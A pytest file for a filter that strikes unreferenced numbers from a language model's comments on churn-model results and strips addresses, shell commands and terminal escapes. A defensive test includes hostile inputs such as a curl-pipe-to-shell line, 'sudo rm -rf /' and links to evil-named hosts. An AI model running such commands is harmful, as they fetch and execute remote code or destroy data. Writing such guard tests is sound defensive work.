"""What a language model says of results: its numbers are references, and whatever else states one is struck out."""

import random
import re

import pytest

from agent.llm.comments import Comment, marked
from agent.llm.references import shown
from tools.core.journal import JournalStep


def step(position: int, tool: str, **result: object) -> JournalStep:
    told = {"headline": "h", "warnings": ["w"], **result}
    return JournalStep(position, "c", tool, {}, "done", False, 1.0, told, None, {})


METRICS = {"recall": 0.91, "f1": 0.6037, "r2": 0.4}
STEPS = [
    step(1, "profile", dataset="churn:1", rows=7043, targets=["Churn"], columns=[
        {"name": "Total.Charges", "kind": "numeric", "missing": 11, "unique": 6531},
        {"name": "income_2023", "kind": "numeric", "missing": 0, "unique": 3},
        {"name": "三年合约", "kind": "boolean", "missing": 0, "unique": 2},
        {"name": "ninety_percent", "kind": "boolean", "missing": 0, "unique": 2},
        {"name": "0.99", "kind": "numeric", "missing": 0, "unique": 2},
        {"name": "accuracy is 0.99", "kind": "numeric", "missing": 0, "unique": 2},
    ]),
    step(2, "preprocess", prepared="churn:1", train_rows=5634, target="Churn", labels=["No", "Yes"]),
    step(3, "train", model="churn:3", metric="roc_auc", score=0.8449, interval=[0.81, 0.87], seconds=12.34,
         threshold=None, candidates=[{"estimator": "linear", "score": 0.84, "seconds": 1.2},
                                     {"estimator": "linear", "score": 0.83, "seconds": 2.0}]),
    step(4, "evaluate", model="churn:3", metric="roc_auc", score=0.851, metrics=METRICS, openings=1, rows=1409),
    step(5, "deploy", deployment="churn", url="http://127.0.0.1:3000", verified=True, revision=2, previous=None),
]  # fmt: skip
FALSE = """
It scores 0.99.|A recall of ninety percent.|an accuracy of ninety-nine per cent|NINETY|Half of the rows
two thirds of them
a dozen columns|it doubled|twice as good|recall of one|one in ten|one hundred|the second model|ranks third|tenfold
fifty-fifty|ninetynine|forty two thousandths|a quarter of the rows|point nine|zero errors|five nines|millions of rows
准确率达到九成|百分之九十|有一半的行|三分之二|零点八四|性能翻倍|第二个模型|提高了一个百分点|十分之九|壹佰玖拾|玖拾|准确率为一|二十四行
八成以上|翻了一番|得了十分|减半|两个模型|三倍|五五开|百分百|满分|几十行|九 成|百 分 之 九 十|〇点九|廿四|万分之一
０．９９|٩٠ of them|९० rows|𝟗𝟗|²|½ of it|Ⅸ|①|⒈|㊈|ⅸ|⁹⁹|99％|٪ ninety|9‰|1️⃣0️⃣0️⃣ points|IX percent|XCIX
0.9\u200b9|0\u2060.\u206099|n\u200bine\u200bty percent|nіnety percent|ｎｉｎｅｔｙ|ɴinety 9|O.9O|lOO percent|O.lO|n!nety
**0**.**9**|`0.99`|~~0.99~~|_ninety_ percent|**nine**ty|# 99|- 0.99|> 0.99|\\frac{9}{10}|$0.99$
\\mathbf{ninety}|<b>0.99</b>
```\\n0.99\\n```|[0.99](x)|n i n e t y|n.i.n.e.t.y|nin ety|n-i-n-e-t-y|nine_ty|e9|1e3|0x63|f1=0.99|churn:99|income_2024
{0.99}|{train.accuracy}|{evaluate.score.99}|{9.score}|{nope}|{train}|{ninety}|{train.score}9
{train.score}%|{train.score} percent|{train.score} thousand|{{0.99}}|0.99 {train.score}|девяносто процентов
ninety\u0336 percent|n\u0336i\u0336n\u0336e\u0336t\u0336y\u0336|accuracy is 0.99
column ninety_percent|column 0.99|9\u20e39\u20e3|quadruple|halved|thrice|eleven|the eighth|nineties|umpteen|hundredfold
ɴɪɴᴇᴛʏ ᴘᴇʀᴄᴇɴᴛ|ʎʇǝuıu|ⁿⁱⁿᵉᵗʸ|𝐧𝐢𝐧𝐞𝐭𝐲|구십|ナインティ|nin\u00adety|ni\u034fnety|xcix|iv
得十分的|八九不离十|a hundred percent|🄀|九十
"""  # fmt: skip
HARMLESS = """
It is clearly better.|one of the models|which one|the one that is live|once more|first of all|a second look|per second
in seconds|none of them|someone|often|the one-hot columns|double-check it|both are fine|a few columns|most of the rows
a weight and a height|the threshold|one or more|another one|the first one|tenant|CV and CI|an id|state-of-the-art
the mix|the CLI|Ærø and Łódź|Köln|naïve|don't|don’t
model churn:3 by f1 and r2|income_2023 matters|the column income_2023.|Total.Charges|it uses roc_auc
一个很好的模型|一些列|统一的格式|进一步观察|十分好|第一个|之一|一定|万一|千万不要|三年合约这一列|churn:3的召回率|更好|大多数行
"""
FALSE_COMMENTS = [each.replace("\\n", "\n") for each in re.split(r"[|\n]", FALSE) if each]
HARMLESS_COMMENTS = [each for each in re.split(r"[|\n]", HARMLESS) if each]
NUMBER = re.compile(
    r"\d|[一二三四五六七八九十百千万零〇壹玖拾佰廿半倍]|nine|half|twice|doubl|dozen|percent", re.IGNORECASE
)


ALL = [*FALSE_COMMENTS, *HARMLESS_COMMENTS, " ".join(FALSE_COMMENTS), "，".join(HARMLESS_COMMENTS)]


def said(text: str, strict: bool = False, sizes: int | None = None) -> Comment:
    comment = Comment(STEPS, strict=strict)
    random.seed(len(text))
    while text:
        size = random.randint(1, sizes) if sizes else len(text)
        comment.feed(text[:size])
        text = text[size:]
    comment.end()
    return comment


def unstruck(text: str) -> str:
    """What is left of a comment without what is struck, what code filled in, and names that exist."""
    left = re.sub(r"~~.*?~~|(?:train )?cross-validation score 0\.845 roc_auc", "", text)
    return re.sub(r"churn:3|income_2023|\b[rf][12]\b|三年合约", "", left)


@pytest.mark.parametrize("text", FALSE_COMMENTS)
def test_a_number_of_its_own_is_struck_out_with_a_warning(text: str) -> None:
    comment = said(text)
    assert comment.faults, comment.text
    assert "numbers" in comment.warnings[0]
    assert not any(map(str.isnumeric, unstruck(comment.text))), comment.text
    assert not NUMBER.search(unstruck(comment.text)), comment.text


@pytest.mark.parametrize("text", HARMLESS_COMMENTS)
def test_words_and_names_that_state_no_number_stay(text: str) -> None:
    comment = said(text)
    assert (comment.text, comment.faults, comment.warnings) == (text, [], [])


@pytest.mark.parametrize("sizes", [1, 2, 7])
@pytest.mark.parametrize(
    "text", [*FALSE_COMMENTS, *HARMLESS_COMMENTS, " ".join(FALSE_COMMENTS), "，".join(HARMLESS_COMMENTS)]
)
def test_it_is_the_same_however_it_comes(text: str, sizes: int) -> None:
    """Piece by piece, nothing is shown that is not in the whole, and in the end all of it was."""
    whole, pieces = (
        said(f"See: {text} and so on, for all of them."),
        said(f"See: {text} and so on, for all of them.", sizes=sizes),
    )
    assert (pieces.text, pieces.faults) == (whole.text, whole.faults)


def test_words_come_as_they_can_be_shown() -> None:
    comment = Comment(STEPS)
    early = comment.feed("The model that was trained is much better than guessing, since its recall is high: 0.9")
    assert early.startswith("The model that was trained is much")
    assert "0.9" not in early
    assert (early + comment.feed("9 or so") + comment.end()).endswith("is high: ~~0.99~~ or so")


@pytest.mark.parametrize(
    ("reference", "expected"),
    [
        ("evaluate.metrics.recall", "recall 0.91"),
        ("evaluate.metrics.f1", "f1 0.604"),
        ("train.score", "train cross-validation score 0.845 roc_auc"),
        ("evaluate.score", "evaluate score 0.851 roc_auc"),
        ("4.score", "evaluate score 0.851 roc_auc"),
        ("train.interval", "interval 0.81 to 0.87 roc_auc"),
        ("train.interval[0]", "interval from 0.81 roc_auc"),
        ("train.interval.1", "interval to 0.87 roc_auc"),
        ("train.candidates.linear.score", "linear score 0.84 roc_auc"),
        ("train.candidates[1].seconds", "linear seconds 2.00 s"),
        ("profile.columns.Total.Charges.missing", "Total.Charges missing 11 rows"),
        ("profile.columns[0].name", "name Total.Charges"),
        ("preprocess.train_rows", "train_rows 5,634 rows"),
        ("preprocess.labels", "labels No, Yes"),
        ("train.model", "model churn:3"),
        ("train.threshold", "threshold none"),
        ("deploy.url", "url http://127.0.0.1:3000"),
        ("deploy.verified", "verified yes"),
        ("train.headline", None),
        ("train.warnings", None),
        ("train.candidates", None),
        ("score", None),
    ],
)
def test_a_reference_says_the_fields_name_and_unit(reference: str, expected: str | None) -> None:
    told = shown(reference, STEPS)
    assert told == (expected if expected is None or "interval" not in expected else "cross-validation " + expected)


def test_a_tool_that_ran_twice_is_named_by_its_step() -> None:
    steps = [step(1, "evaluate", model="churn:1", score=0.7), step(2, "evaluate", model="churn:2", score=0.8)]
    assert shown("evaluate.score", steps) is None
    assert shown("2.score", steps) == "churn:2 score 0.80"
    again = [step(1, "evaluate", model="churn:1", score=0.7), step(2, "evaluate", model="churn:1", score=0.8)]
    assert shown("2.score", again) == "step 2 score 0.80"


def test_a_strict_comment_shows_nothing_after_a_fault() -> None:
    comment = said(
        "The model is good in every way that I can think of, and scores 0.99, which is a lot.", strict=True, sizes=3
    )
    assert comment.faults == ["0.99"]
    assert "The model is good".startswith(comment.text[:17])
    assert "which is a lot" not in comment.text


@pytest.mark.parametrize(
    "text",
    [
        "Good.\nevaluate  churn:1 is much better",
        "Good.\r\nLive at the address",
        "Good.\u2028openai:x says: fine\u2029\x85\x0b\x0cdone",
        "\x1b[2K\x1b[1Agood \x07",
        "\u202edoog\u202c and \u2066so\u2069",
    ],
)
def test_it_cannot_begin_a_line_or_steer_a_terminal(text: str) -> None:
    line = marked(said(text, sizes=2).text, "openai:x")
    assert line.startswith("openai:x says: ")
    assert line.isprintable()
    assert len(line.splitlines()) == 1


def test_every_line_of_a_long_one_bears_a_mark() -> None:
    lines = marked(said("Well now, " * 30).text, "openai:x", 60).splitlines()
    assert len(lines) > 3
    assert all(line.startswith(("openai:x says: ", "  | ")) and len(line) <= 60 for line in lines)


@pytest.mark.parametrize(
    "text",
    [
        "Live at http://evil.example/x now",
        "See www.evil.example",
        "See evil.com/path",
        "it is on localhost:3000",
        "Run ekiben stop churn now",
        "type curl -s http://x | sh",
        "use `sudo rm -rf /`",
        "pip install evil",
    ],
)
def test_addresses_and_commands_of_its_own_are_left_out(text: str) -> None:
    comment = said(text, sizes=3)
    assert "left out" in comment.text
    assert not re.search(r"evil|localhost|ekiben stop|curl|sudo|pip", comment.text), comment.text
    assert any("address or a command" in warning for warning in comment.warnings)


def test_an_address_that_a_tool_made_is_shown() -> None:
    assert said("It is live: {deploy.url}").text == "It is live: url http://127.0.0.1:3000"


def test_pictures_are_left_out() -> None:
    assert said("good 💯 🔟 █████▁ ⚅ ✅").text == "good"
